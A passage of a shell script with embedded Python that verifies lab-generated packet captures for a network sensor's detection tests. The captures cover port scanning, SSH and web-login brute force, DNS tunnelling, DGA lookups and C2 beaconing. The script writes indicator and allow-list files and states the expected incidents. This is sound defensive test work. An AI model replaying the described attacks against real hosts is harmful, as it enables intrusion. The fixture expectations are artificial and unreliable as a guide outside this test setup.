      {x["tcp.dstport"] for x in sweep_syn} == {E["SWEEP_PORT"]}, "portscan: sweep %d addresses" % len(sweep_addrs))
check(len(syn) == S["portscan"]["tcp"], "portscan: %d SYNs but %d TCP flows" % (len(syn), S["portscan"]["tcp"]))
SECTIONS.append("\n\n".join([
    "### portscan.pcap - a TCP connect port scan and a host sweep",
    head_lines(S["portscan"]),
    "Host **10.88.0.10** runs a Python connect scan (`connect_ex`, 1 s timeout, 20 ms between probes; one SYN per "
    "probe, no retries were needed):",
    "- **port scan** of %s: **%d distinct TCP ports** in %.3f s (first SYN %s UTC); open (SYN-ACK, then the scanner "
    "closes): %s; the other %d answered RST. Ports in scan order: %s\n"
    "- **host sweep** of TCP port %s: **%d distinct addresses** %s .. %s in %.3f s (first SYN %s UTC, about 1 s "
    "after the port scan); open: %s; the other %d answered RST" % (
        SCAN, len(set(ports)), st1[-1] - st1[0], ts(st1[0]), ", ".join(map(str, open_p)), len(set(ports)) - len(open_p),
        ",".join(map(str, ports)), E["SWEEP_PORT"], len(sweep_addrs), sweep_addrs[0], sweep_addrs[-1], st2[-1] - st2[0],
        ts(st2[0]), ", ".join(open_a), len(sweep_addrs) - len(open_a)),
    "**Expected: two behaviour incidents** for host 10.88.0.10, category `scanning`: a port scan (peer %s, %d ports "
    "within %.0f s) and a host sweep (port %s, %d hosts within %.0f s). (Defaults: 25 ports / 25 hosts in 60 s.)" % (
        SCAN, len(set(ports)), math.ceil(st1[-1] - st1[0]), E["SWEEP_PORT"], len(sweep_addrs),
        math.ceil(st2[-1] - st2[0]))]))
EXPECT.append(["portscan.pcap", "10.88.0.10", "behaviour: port scan of %s (%d ports)" % (SCAN, len(set(ports))),
               "1", "scanning", "1"])
EXPECT.append(["portscan.pcap", "10.88.0.10", "behaviour: host sweep, port %s (%d hosts)" % (
    E["SWEEP_PORT"], len(sweep_addrs)), "1", "scanning", "1"])

# ------------------------------------------------------------------ bruteforce
p = S["bruteforce"]["path"]
ATK = E["ATK_IP"]
sshs = fields(p, "tcp.flags.syn == 1 && tcp.flags.ack == 0 && tcp.dstport == 22",
              ["frame.time_epoch", "tcp.stream", "ip.src", "ip.dst"])
banners = fields(p, "ssh.protocol", ["tcp.stream", "ip.src", "ssh.protocol"])
cban = sorted({x["ssh.protocol"] for x in banners if x["ip.src"] == ATK})
sban = sorted({x["ssh.protocol"] for x in banners if x["ip.src"] != ATK})
fails = [l for l in open(os.path.join(WORK, "sshd-fail.log"), errors="replace") if "Failed password" in l]
users = [re.search(r"invalid user (\S+)", l).group(1) for l in fails]
reqs = http_rows(p)
logins = [x for x in reqs if x["http.request.method"] == "POST" and x["http.request.uri"] == "/login"]
codes = collections.Counter(x["resp"].get("http.response.code", "none") for x in logins)
t_ssh = [float(x["frame.time_epoch"]) for x in sshs]
t_web = [float(x["frame.time_epoch"]) for x in logins]
dur = collections.defaultdict(list)
for x in fields(p, "tcp.port == 22", ["tcp.stream", "frame.time_epoch"]):
    dur[x["tcp.stream"]].append(float(x["frame.time_epoch"]))
durs = [max(v) - min(v) for v in dur.values()]
check(len(sshs) == 20 and all(x["ip.src"] == ATK and x["ip.dst"] == "10.88.0.20" for x in sshs),
      "bruteforce: %d SSH connections" % len(sshs))
check(len(fails) == 20, "bruteforce: sshd logged %d failed passwords" % len(fails))
check(len(logins) == 20 and codes == {"401": 20}, "bruteforce: %d POST /login, codes %s" % (len(logins), codes))
SECTIONS.append("\n\n".join([
    "### bruteforce.pcap - password guessing against the agency portal's SSH and web login",
    head_lines(S["bruteforce"]),
    "The attacker **%s** attacks the agency portal **10.88.0.20** (so the agency host of these incidents is the "
    "target 10.88.0.20; the peer is %s):" % (ATK, ATK),
    "- **SSH**: %d connections to 10.88.0.20:22 in %.3f s (first SYN %s UTC), one password attempt each (OpenSSH "
    "client, password from SSH_ASKPASS, `NumberOfPasswordPrompts=1`). Client banner %s, server banner %s. The server "
    "(`DenyUsers *`) refused every one: its log has **%d** `Failed password for invalid user ... from %s` lines "
    "(users in order: %s). Each connection lasts %.3f-%.3f s.\n"
    "- **HTTP**: %d `POST /login` to `http://%s/login` (form `username=admin&password=...`, User-Agent `%s`), one "
    "connection each, in %.3f s (first %s UTC, about 1 s after the last SSH attempt); responses: %s." % (
        len(sshs), t_ssh[-1] - t_ssh[0], ts(t_ssh[0]), ", ".join("`%s`" % b for b in cban),
        ", ".join("`%s`" % b for b in sban), len(fails), ATK, " ".join(users), min(durs), max(durs), len(logins),
        E["PORTAL_HOST"], logins[0]["http.user_agent"] if logins else "-", t_web[-1] - t_web[0] if t_web else 0,
        ts(t_web[0]) if t_web else "-", ", ".join("%d x %s" % (v, k) for k, v in codes.items())),
    "**Expected: one behaviour incident** for host 10.88.0.20, rule brute force from peer %s, category "
    "`brute_force`, carrying **two brute-force signals**: SSH (20 short connections to port 22 within %.0f s, "
    "each a failed password) and HTTP login (20 POST /login answered 401 within %.0f s). Same agency host, same "
    "rule, same peer, same window: one incident, not one per service. (Default threshold: 10 attempts in 60 s.)" % (
        ATK, math.ceil(t_ssh[-1] - t_ssh[0]), math.ceil(t_web[-1] - t_web[0]) if t_web else 0)]))
EXPECT.append(["bruteforce.pcap", "10.88.0.20", "behaviour: brute force from %s - SSH (20 attempts) and HTTP login "
               "(20 x 401) signals" % ATK, "2 signals", "brute_force", "1"])

# ------------------------------------------------------------------ dns-tunnel
p = S["dns-tunnel"]["path"]
TD = E["TUN_DOMAIN"]
qs, rs = dns_rows(p)
tq = [x for x in qs if x["dns.qry.name"].endswith("." + TD)]
dq = [x for x in qs if not x["dns.qry.name"].endswith("." + TD)]
names = [x["dns.qry.name"] for x in tq]
labels = [max(len(l) for l in n.split(".")) for n in names]
tt = [float(x["frame.time_epoch"]) for x in tq]
t_rc = collections.Counter(RCODE.get((x["resp"] or {}).get("dns.flags.rcode"), "none") for x in tq)
dga = [l.strip() for l in open(os.path.join(WORK, "dga.txt"))]
check(len(tq) == 200 and len(set(names)) == 200 and all(x["dns.qry.type"] == "16" and x["ip.src"] == "10.88.0.11"
                                                         for x in tq), "dns-tunnel: %d tunnel queries" % len(tq))
check(t_rc == {"NOERROR": 200}, "dns-tunnel: tunnel rcodes %s" % t_rc)
check([x["dns.qry.name"] for x in dq] == dga, "dns-tunnel: DGA queries differ from the list")
tun_udp = {x["udp.stream"] for x in tq}
rows = []
for x in dq:
    lab = x["dns.qry.name"].split(".")[0]
    rows.append([x["frame.number"], x["dns.qry.name"], len(lab), "%.2f" % entropy(lab),
                 "%.2f" % entropy(x["dns.qry.name"].replace(".", "")),
                 RCODE.get((x["resp"] or {}).get("dns.flags.rcode"), "no response")])
SECTIONS.append("\n\n".join([
    "### dns-tunnel.pcap - DNS tunnelling and DGA-looking names",
    head_lines(S["dns-tunnel"]),
    "Host **10.88.0.11**:",
    "1. a tunnel client (`tunnel.py`, iodine/dnscat style, one UDP socket = **%d UDP flow**) sends **%d TXT queries** "
    "to the resolver %s for `<50 chars>.<50 chars>.t.%s`: 62 bytes of upstream data (2-byte sequence number + "
    "SHA-256 counter-mode bytes) in lower-case base32 without padding, split into two labels. %d distinct names, "
    "name length %d-%d, longest label %d; in %.3f s (first %s UTC). dnsmasq forwards the zone to a small "
    "authoritative server which answers each with one TXT record of 48 base32 characters (TTL 0): rcodes: %s. "
    "First three names: %s\n"
    "2. then (about 1 s later) dig asks `A` for **%d DGA names**, one query each (%d UDP flows); all NXDOMAIN." % (
        len(tun_udp), len(tq), E["DNS_IP"], TD, len(set(names)), min(map(len, names)), max(map(len, names)),
        max(labels), tt[-1] - tt[0], ts(tt[0]), ", ".join("%d %s" % (v, k) for k, v in t_rc.items()), ", ".join("`%s`" % n for n in names[:3]),
        len(dq), len({x["udp.stream"] for x in dq})),
    "The DGA names are the first 20 lines of `%s` whose first label is at least 12 characters long and has a "
    "Shannon entropy of at least 3.5 bits per character (nDPI `tests/dga/test_dga.csv`, ntop/nDPI commit "
    "3b1286ab03b0c9223ac208a01868d8c1f6c0ae00, LGPL-3.0, itself from chrmor/DGA_domains_dataset; see "
    "/work/shared/corpus/MANIFEST.md). Some are dictionary-word DGAs (e.g. `associatemodelloanpicture.com`). "
    "They are real-looking public names, but they were only ever asked of the lab resolver." % E["DGA_SOURCE"],
    table(["query frame", "qname", "first label length", "entropy of first label", "entropy of name without dots",
           "rcode"], rows),
    "**Expected**: for host 10.88.0.11 a behaviour incident **DNS tunnelling** under `%s` (or `t.%s`), category "
    "`tunnelling`, with 200 queries (threshold: 50 long/high-entropy names under one domain in 60 s; every name here "
    "has two 50-character labels), and a **DGA** behaviour incident (20 generated-looking names, all NXDOMAIN; "
    "category `malware`)." % (TD, TD)]))
EXPECT.append(["dns-tunnel.pcap", "10.88.0.11", "behaviour: DNS tunnel under `%s` (200 TXT queries)" % TD, "1",
               "tunnelling", "1"])
EXPECT.append(["dns-tunnel.pcap", "10.88.0.11", "behaviour: DGA-looking names (20, NXDOMAIN)", "1", "malware", "1"])

# ------------------------------------------------------------------ rule files
ioc_csv = """type,value,severity,source,description,category
# tests/data/detect/rules/ioc/test.csv - the indicators the captures in tests/data/detect/ need.
# Written by tests/tools/make-detect-captures.sh (values read back from the captures); do not edit by hand.
domain,%(c2d)s,high,haidang-test-c2,C2 beacon domain (c2-beacon.pcap),c2
ip,%(c2ip)s,high,haidang-test-c2,C2 server (c2-beacon.pcap),c2
cert_sha1,%(cert)s,high,haidang-test-c2,Self-signed certificate of the C2 server CN=%(c2d)s (c2-beacon.pcap),c2
ja3,%(ja3)s,medium,haidang-test-c2,TLS client of the C2 implant: curl TLS 1.2 with a short cipher list and no ALPN (c2-beacon.pcap),c2
domain,%(pd)s,high,haidang-test-phish,Credential-phishing site (two-hosts.pcap),phishing
domain,%(vd)s,medium,haidang-test-feed,Feed entry that is a false positive - also in rules/allow/test.csv (allowlisted.pcap),malware
sha256,%(sha)s,critical,haidang-test-malware,hoadon-0924.bin - 20000 bytes (download.pcap),malware
""" % {"c2d": C2D, "c2ip": C2IP, "cert": cert_sha1_file, "ja3": JA3, "pd": PD, "vd": VD, "sha": H["sha256"]}
allow_csv = """type,value,severity,source,description
# tests/data/detect/rules/allow/test.csv - allow list for the captures in tests/data/detect/.
# Written by tests/tools/make-detect-captures.sh; do not edit by hand.
domain,%s,,haidang-test-allow,Vendor update CDN - the feed entry for it is a known false positive
""" % VD
open(os.path.join(STAGE, "rules", "ioc", "test.csv"), "w").write(ioc_csv)
open(os.path.join(STAGE, "rules", "allow", "test.csv"), "w").write(allow_csv)

# ------------------------------------------------------------------ README
names = ["c2-beacon", "two-hosts", "allowlisted", "webshell", "download", "portscan", "bruteforce", "dns-tunnel"]
filetable = table(["file", "bytes", "packets", "flows TCP/UDP", "duration (s)", "hosts (agency side)"], [
    ["`%s.pcap`" % n, S[n]["size"], S[n]["packets"], "%d/%d" % (S[n]["tcp"], S[n]["udp"]),
     "%.1f" % (S[n]["last"] - S[n]["first"]),
     ", ".join(sorted({x["ip.src"] for x in fields(S[n]["path"], "ip.src == 10.88.0.0/16", ["ip.src"])}))]
    for n in names])
total = sum(S[n]["size"] for n in names)
limits = ["Self-check failed: " + f for f in FAILED]
readme = """# tests/data/detect - detection test captures

Small captures of **real traffic** between real clients and real servers for the detection stages (IOC
indicators, YARA, behaviour signals, incident aggregation), with the rule files they need. Made by
`tests/tools/make-detect-captures.sh`; do not edit anything here by hand: change the script and run it again.

    sudo tests/tools/make-detect-captures.sh            # rewrites tests/data/detect/ (about a minute)
    sudo tests/tools/make-detect-captures.sh /tmp/out   # write somewhere else

Every number, name and hash below was read back from the files with tshark (and from the servers' logs where
the wire cannot show it: SSH password failures); the script fails if a check does not hold.

## Contents

- `*.pcap` - the captures (classic pcap, Ethernet, microsecond timestamps)
- `rules/ioc/test.csv` - the indicators (`type,value,severity,source,description,category`)
- `rules/allow/test.csv` - the allow list
- `samples/cmd.php`, `samples/b64.php` - the two webshell texts carried in webshell.pcap (try rules on them with `yara -w $(find rules/yara -name '*.yar') tests/data/detect/samples/cmd.php`)

Use it as the sensor's rules directory, with the agency network 10.88.0.0/16 (inside the default `--home-net`):

    build/sensor/haidang-sensor -r tests/data/detect/c2-beacon.pcap -R tests/data/detect/rules --home-net 10.88.0.0/16

This rules directory has no `yara/` and no `policy.conf`: for webshell.pcap the YARA rules come from the
repository's `rules/yara/` (copy or link them next to `ioc/` and `allow/` in a temporary rules dir), and the
behaviour thresholds are the defaults.

## How they are made

Five network namespaces; the agency LAN is a Linux bridge in the router namespace; the captures are taken with
`tcpdump -s 0 -U --immediate-mode -i br-lan` in the router namespace, i.e. on the agency side of its Internet
gateway (the hosts' own MAC addresses are in the frames; Internet-side frames carry the gateway's MAC).

| namespace | role | interface, MAC | addresses | runs |
|---|---|---|---|---|
| `hdd-h10` | agency workstation | eth0, 02:88:00:00:00:0a | 10.88.0.10/24 | dig, curl, Python beacon / scanner |
| `hdd-h11` | agency workstation | eth0, 02:88:00:00:00:0b | 10.88.0.11/24 | dig, curl, Python DNS-tunnel client |
| `hdd-h20` | agency web portal | eth0, 02:88:00:00:00:14 | 10.88.0.20/24 | Python HTTP portal (`/login` always 401, `/upload.php` accepts anything), OpenSSH sshd (password auth, `DenyUsers *`) |
| `hdd-rtr` | agency gateway | br-lan 02:88:00:00:00:01; wan0 02:88:ff:00:00:01 | 10.88.0.1/24; 192.0.2.1/24 | IPv4 forwarding, no NAT; **capture point** |
| `hdd-net` | "the Internet" | inet0 02:88:ff:00:00:02 | 192.0.2.2/24 + the /32s below on lo | dnsmasq, Python HTTP, `openssl s_server`, Python listeners, the attacker's curl/ssh |

| address | name | what |
|---|---|---|
| 198.51.100.53 | - | the resolver the hosts ask (dnsmasq; local names below, everything else forwarded to a small authoritative server that answers TXT for `%(td)s` and NXDOMAIN for anything else) |
| 203.0.113.66 | `%(c2d)s` (A, TTL 60) | C2 server, HTTPS (`openssl s_server -WWW`) |
| 203.0.113.88 | `%(pd)s` | phishing site (HTTP) |
| 198.51.100.90 | `%(vd)s` | vendor update CDN (HTTP) - indicator and allow-listed |
| 198.51.100.80 | `%(dl)s` | serves the file whose sha256 is an indicator (HTTP) |
| 203.0.113.45 | - | attacker's staging server with two webshells (HTTP) |
| 203.0.113.50 | - | attacker: SSH and web-login brute force, webshell upload to 10.88.0.20 |
| 198.51.100.30 | - | port-scan target (open: 21, 22, 25, 80, 443, 3306, 8080) |
| 203.0.113.100-139 | - | host-sweep targets (port 445 open on .101, .117, .133) |

Only IPv4 (IPv6 is disabled in every namespace); neighbours are static, so there is **no ARP** and no other
background traffic: every frame is TCP or UDP of the scenario. Checksum and segmentation offloads are off, so
checksums are correct and no frame exceeds 1514 bytes. The hosts resolve with `dig @198.51.100.53` and then
connect to the address they got (`curl --resolve`), so each contact is one DNS query plus the connection.

### What changes when the captures are regenerated

Stable (tests may rely on them): addresses, MACs, names, URLs, methods, status codes, User-Agents, SNI, the C2
certificate and its SHA-1 (deterministic key, serial and dates), the downloaded file and its hashes, the webshell
texts and the upload request, the DNS-tunnel names, the DGA names, the order and number of events, the number
of flows. With the same curl/OpenSSL build: the JA3. Different on every run: timestamps (intervals stay close),
ports, DNS ids (except the tunnel client's), TCP sequence numbers, the SSH host key, and possibly a packet or
two (ACK timing) - so packet counts and file sizes may move slightly; the flow and event counts do not.

Generated %(date)s on Linux %(kernel)s with: %(versions)s.

## Files

%(filetable)s

Total: %(total)d bytes.

## Rule files

`rules/ioc/test.csv`:

```
%(ioc)s```

`rules/allow/test.csv`:

```
%(allow)s```

## Expected incidents

What a correct sensor must report for each capture on its own (incidents are per agency host, indicator/rule
and 24 h window; "count" is the number of events aggregated into the incident):

%(expect)s

## Per-capture facts

%(sections)s

## What could not be done on this machine

%(failed)s
""" % {"td": TD, "c2d": C2D, "pd": PD, "vd": VD, "dl": E["DL_DOMAIN"],
       "date": datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%d %H:%M UTC"),
       "kernel": platform.release(), "versions": "; ".join(versions.values()), "filetable": filetable,
       "total": total, "ioc": ioc_csv, "allow": allow_csv,
       "expect": table(["capture", "agency host", "indicator / rule", "count", "category", "incidents"], EXPECT),
       "sections": "\n\n".join(SECTIONS),
       "failed": "\n".join("- " + l for l in limits) if limits else "Nothing: every capture was produced and every check held."}
open(os.path.join(STAGE, "README.md"), "w").write(readme)
print("README.md written; %d bytes of captures; self-check problems: %d" % (total, len(FAILED)))
for f in FAILED:
    print("SELF-CHECK:", f, file=sys.stderr)
sys.exit(1 if FAILED else 0)
FACTS_EOF
log "verifying, writing rules and README.md"
FACTS_ENV=(C2_DOMAIN="$C2_DOMAIN" C2_IP="$C2_IP" PHISH_DOMAIN="$PHISH_DOMAIN" PHISH_IP="$PHISH_IP"
  VENDOR_DOMAIN="$VENDOR_DOMAIN" VENDOR_IP="$VENDOR_IP" DL_DOMAIN="$DL_DOMAIN" DL_IP="$DL_IP"
  TUN_DOMAIN="$TUN_DOMAIN" SCAN_IP="$SCAN_IP" SCAN_PORTS="$SCAN_PORTS" SWEEP_NET="$SWEEP_NET"
  SWEEP_FIRST="$SWEEP_FIRST" SWEEP_LAST="$SWEEP_LAST" SWEEP_PORT="$SWEEP_PORT" STAGE_IP="$STAGE_IP"
  ATK_IP="$ATK_IP" DNS_IP="$DNS_IP" PORTAL_HOST="$PORTAL_HOST" UA_C2="$UA_C2" C2_CIPHERS="$C2_CIPHERS"
  C2_CURVES="$C2_CURVES" BEACONS="$BEACONS" BEACON_INTERVAL="$BEACON_INTERVAL" DGA_SOURCE="$DGA_SOURCE"
  RULES_YARA="$(cd "$SELF_DIR/../.." && pwd)/rules/yara")
env "${FACTS_ENV[@]}" "$PY" "$WORK/facts.py" "$STAGE" "$WORK"

log "installing into $OUT"
mkdir -p "$OUT"
rm -f "$OUT"/*.pcap
rm -rf "$OUT/rules" "$OUT/samples"
chmod -R u=rwX,go=rX "$STAGE"
cp -r "$STAGE/." "$OUT/"
ls -l "$OUT" "$OUT/rules/ioc" "$OUT/rules/allow" "$OUT/samples"
du -sh "$OUT"
log "done"
